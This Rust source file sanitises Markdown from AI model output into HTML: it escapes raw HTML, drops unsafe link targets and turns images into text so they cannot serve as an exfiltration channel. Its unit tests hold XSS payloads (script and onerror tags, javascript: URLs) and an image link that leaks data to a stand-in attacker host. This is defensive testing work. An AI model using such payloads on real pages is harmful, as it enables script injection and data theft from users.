//! Markdown to HTML that is safe to insert: model output is untrusted.
//!
//! - Raw HTML in the text is shown as text, never parsed as markup.
//! - Links keep their text but only `http:`, `https:` and `mailto:` targets;
//!   others (`javascript:`, `data:`, relative tricks) lose the link.
//! - Images are never loaded (a remote image is an exfiltration channel, see
//!   EchoLeak CVE-2025-32711): they become their alt text and address.
//!
//! The page's CSP (no inline script) is a second wall behind this one.

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};

fn safe_url(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:")
}

/// Renders `text` as sanitised HTML.
pub fn render(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    // Links with unsafe targets and images are rewritten; a stack remembers
    // which opening tags were dropped so their closing tags go too.
    let mut dropped: Vec<bool> = Vec::new();
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            // An email autolink (`<a@b.c>`) is rendered as `mailto:` by push_html.
            let keep = link_type == LinkType::Email || safe_url(&dest_url);
            dropped.push(!keep);
            keep.then_some(Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }))
        }
        Event::End(TagEnd::Link) => {
            if dropped.pop().unwrap_or(false) {
                None
            } else {
                Some(Event::End(TagEnd::Link))
            }
        }
        Event::Start(Tag::Image { dest_url, .. }) => {
            Some(Event::Text(CowStr::from(format!("[image: {dest_url}] "))))
        }
        Event::End(TagEnd::Image) => None,
        other => Some(other),
    });
    // Code blocks get a Copy button: markup of ours, added after the filter
    // above (which turns any HTML in the text itself into text).
    let events = events.flat_map(|event| match event {
        Event::Start(Tag::CodeBlock(kind)) => vec![
            Event::Html(CowStr::from(
                "<div class=\"code-block\"><button type=\"button\" class=\"copy\">Copy</button>",
            )),
            Event::Start(Tag::CodeBlock(kind)),
        ],
        Event::End(TagEnd::CodeBlock) => {
            vec![
                Event::End(TagEnd::CodeBlock),
                Event::Html(CowStr::from("</div>")),
            ]
        }
        other => vec![other],
    });
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events);
    out
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn formatting_and_code_render() {
        let html = render("**bold** and `code`\n\n```rust\nfn main() {}\n```");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(
            html.contains("<pre><code class=\"language-rust\">"),
            "{html}"
        );
    }

    #[test]
    fn raw_html_is_text() {
        let html = render("<script>alert(1)</script> <img src=x onerror=alert(1)> <b>hi</b>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<b>"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn only_safe_links_stay_links() {
        let html = render(
            "[ok](https://example.com) [mail](mailto:a@example.com) [bad](javascript:alert(1)) [data](data:text/html,x) [rel](//evil.example)",
        );
        assert!(
            html.contains("<a href=\"https://example.com\">ok</a>"),
            "{html}"
        );
        assert!(
            html.contains("<a href=\"mailto:a@example.com\">mail</a>"),
            "{html}"
        );
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(!html.contains("href=\"//evil"), "{html}");
        assert!(
            html.contains("bad") && html.contains("data") && html.contains("rel"),
            "the text stays: {html}"
        );
    }

    #[test]
    fn images_are_never_loaded() {
        let html = render("![secret](https://attacker.example/leak?d=123)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("[image: https://attacker.example/leak?d=123]"),
            "{html}"
        );
    }
}
